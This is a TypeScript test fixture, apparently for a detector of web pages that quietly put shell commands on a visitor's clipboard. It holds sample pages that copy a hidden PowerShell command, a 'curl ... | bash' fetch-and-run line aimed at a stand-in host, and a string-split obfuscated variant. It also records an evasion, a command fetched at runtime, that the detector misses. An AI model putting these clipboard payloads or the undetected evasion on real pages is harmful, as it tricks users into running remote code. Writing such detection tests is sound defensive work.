import type { Examples } from "@doorward/core";
import { makePage } from "../example-pages.ts";

/** Pages that do it, and pages that only look like it. */
export const examples: Examples = {
  hits: [
    {
      name: "a command of Windows",
      delivered: true,
      files: { "a.html": makePage(`<script>navigator.clipboard.writeText("powershell -w hidden -c x")</script>`) },
    },
    {
      name: "a command in a handler",
      delivered: true,
      files: {
        "a.html": makePage(
          `<button onclick="navigator.clipboard.writeText('curl -s https://a.example/x | bash')">Copy</button>`,
        ),
      },
    },
    {
      name: "a command in pieces",
      delivered: true,
      files: {
        "a.html": makePage(
          `<script>var c = "power" + "shell -w hid" + "den -c x"; navigator["clip" + "board"]["write" + "Text"](c)</script>`,
        ),
      },
    },
  ],
  misses: [
    {
      name: "a guide whose button copies what it shows",
      why: "What is copied can be read on the page.",
      delivered: true,
      files: {
        "guide.html": makePage(
          `<pre id="c">curl -fsSL https://tool.example/install.sh | sh</pre><script>copy.onclick = function () { navigator.clipboard.writeText(c.textContent) }</script>`,
        ),
      },
    },
    {
      name: "a page that copies its own link",
      why: "A link starts nothing by itself.",
      delivered: true,
      files: {
        "share.html": makePage(
          `<script>share.onclick = function () { navigator.clipboard.writeText("https://docs.example/a") }</script>`,
        ),
      },
    },
    {
      name: "a page about commands",
      why: "It copies nothing.",
      delivered: true,
      files: {
        "notes.html": makePage(`<script>var example = "curl -s https://a.example/x | bash"; show(example)</script>`),
      },
    },
  ],
  evasions: [
    {
      name: "a command that is loaded first",
      caughtBy: "nothing",
      delivered: true,
      files: {
        "a.html": makePage(
          `<script>fetch("https://a.example/c").then(function (r) { return r.text() }).then(function (t) { navigator.clipboard.writeText(t) })</script>`,
        ),
      },
    },
  ],
};
